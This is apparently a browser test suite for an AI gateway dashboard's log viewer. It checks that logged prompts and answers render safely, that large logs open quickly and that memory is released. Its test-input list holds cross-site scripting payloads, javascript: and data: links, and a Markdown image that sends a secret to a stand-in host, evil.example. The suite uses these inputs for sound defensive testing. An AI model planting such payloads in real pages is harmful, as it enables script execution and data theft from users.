// What models and users wrote is shown as text, however it is written and however long it is.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Dashboard } from "./browser.mjs";

let dashboard;
let gateway;

before(async () => {
  dashboard = await Dashboard.start();
  gateway = dashboard.gateway;
  await gateway.create("gw");
});
after(() => dashboard.stop());

const NASTY = [
  "<img src=x onerror=\"document.title='owned'\">",
  "<script>document.title='owned'</script>",
  "[click](javascript:document.title='owned')",
  "[click](data:text/html,<script>alert(1)</script>)",
  "![pixel](https://evil.example/pixel.png?secret=1)",
  "left \u202Ethgir",
  "nul \u0000 byte",
  "x".repeat(1_000_000),
  "</td></tr></table><h1>owned</h1>",
];

async function logged(content, answer = content) {
  gateway.upstream.next({ headers: { "content-type": "application/json" }, body: JSON.stringify({ id: "chatcmpl-1", object: "chat.completion", model: "gpt-4o", choices: [{ index: 0, message: { role: "assistant", content: answer }, finish_reason: "stop" }], usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 } }) });
  const sent = await gateway.call("openai/chat/completions", { json: { model: "gpt-4o", messages: [{ role: "user", content }] }, headers: { "cf-aig-metadata": JSON.stringify({ note: "<b>bold</b>" }) } });
  await sent.text();
  return (await gateway.logOf(sent)).id;
}

test("D11 D12 nothing that a log says runs, loads or breaks the page, as text and as Markdown", async () => {
  const page = await dashboard.open({ path: "gw/logs" });
  for (const text of NASTY) {
    const id = await logged(text);
    await page.goto(dashboard.url(`gw/logs?log=${id}`));
    const shown = page.locator(".drawer .turn.user .parts");
    await shown.waitFor();
    for (const mode of ["Text", "Markdown"]) {
      await page.getByRole("button", { name: mode, exact: true }).click();
      assert.notEqual(await page.title(), "owned");
      const { images, hrefs, over } = await page.evaluate(() => ({
        images: document.querySelectorAll(".drawer img, .drawer iframe, .drawer script, .drawer h1").length,
        hrefs: [...document.querySelectorAll(".drawer .turn a")].map((link) => link.href),
        over: document.documentElement.scrollWidth - window.innerWidth,
      }));
      assert.equal(images, 0, text.slice(0, 60));
      for (const href of hrefs) assert.match(href, /^https?:/);
      assert.ok(over <= 0, `${text.slice(0, 40)} makes the page ${over} px too wide`);
    }
    if (text.includes("\u202E")) assert.match(await shown.textContent(), /⟨U\+202E⟩/);
  }
  await page.context().close();
});

test("D9 a log of 10 MB opens at once and never blocks the page for 200 ms", async () => {
  const id = await logged("short", "y".repeat(9_500_000));
  const page = await dashboard.open({ path: "gw/logs" });
  await page.locator(".log-table tbody tr").first().waitFor();
  await page.evaluate(() => {
    globalThis.long = [];
    new PerformanceObserver((list) => globalThis.long.push(...list.getEntries().map(({ duration }) => Math.round(duration)))).observe({ type: "longtask" });
  });
  await page.locator(`tr[data-id="${id}"] td.c-time`).click();
  // The frame stands before the contents have come.
  await page.locator(".drawer .log-head").waitFor({ timeout: 2_000 });
  await page.locator(".drawer .turn").last().waitFor();
  for (const tab of ["Request", "Response", "Conversation"]) {
    await page.locator(".drawer").getByRole("tab", { name: tab }).click();
    await page.locator(".drawer .conversation-bar").waitFor();
  }
  const long = await page.evaluate(() => globalThis.long);
  console.log(`long tasks, in milliseconds: ${long.join(", ") || "none"}`);
  const nodes = await page.evaluate(() => document.querySelectorAll("*").length);
  assert.ok(nodes < 5_000, `${nodes} nodes`);
  await page.context().close();
});

test("D9 what fifty logs needed is given back when they are closed", async () => {
  const ids = [];
  for (let at = 0; at < 50; at += 1) ids.push(await logged(`question ${at} ${"words ".repeat(2_000)}`));
  const page = await dashboard.open({ path: "gw/logs" });
  await page.locator(".log-table tbody tr").first().waitFor();
  const debuggerOf = await page.context().newCDPSession(page);
  await debuggerOf.send("Performance.enable");
  const used = async () => {
    await debuggerOf.send("HeapProfiler.collectGarbage");
    const { metrics } = await debuggerOf.send("Performance.getMetrics");
    return Object.fromEntries(metrics.filter(({ name }) => ["JSHeapUsedSize", "Nodes", "JSEventListeners"].includes(name)).map(({ name, value }) => [name, value]));
  };
  const walk = async (count) => {
    await page.locator(".log-table td.c-time").first().click();
    for (let at = 0; at < count; at += 1) {
      await page.locator(".drawer .turn.user").first().waitFor();
      const url = page.url();
      await page.keyboard.press("j");
      if (at < count - 1) await page.waitForFunction((before) => location.href !== before, url);
    }
    await page.keyboard.press("Escape");
    await page.locator(".drawer").waitFor({ state: "detached" });
    await page.evaluate(() => scrollTo(0, 0));
  };
  await walk(3);
  const before = await used();
  await walk(48);
  const after = await used();
  console.log(`before ${JSON.stringify(before)}, after 48 logs ${JSON.stringify(after)}`);
  for (const name of Object.keys(before)) assert.ok(after[name] < before[name] * 1.2 + (name === "JSHeapUsedSize" ? 1_000_000 : 300), `${name}: ${before[name]} before, ${after[name]} after`);
  await page.context().close();
});

test("a gateway that vanishes while it is open is said to be gone", async () => {
  await gateway.create("short-lived");
  const page = await dashboard.open({ path: "short-lived/settings" });
  await page.getByRole("heading", { name: "Settings" }).waitFor();
  await page.getByLabel("cache_ttl", { exact: true }).waitFor();
  assert.equal((await gateway.api("/gateways/short-lived", { method: "DELETE" })).status, 200);
  await page.getByRole("button", { name: "Refresh (r)" }).click();
  await page.getByText("This gateway does not exist (any more)").waitFor();
  await page.context().close();
});
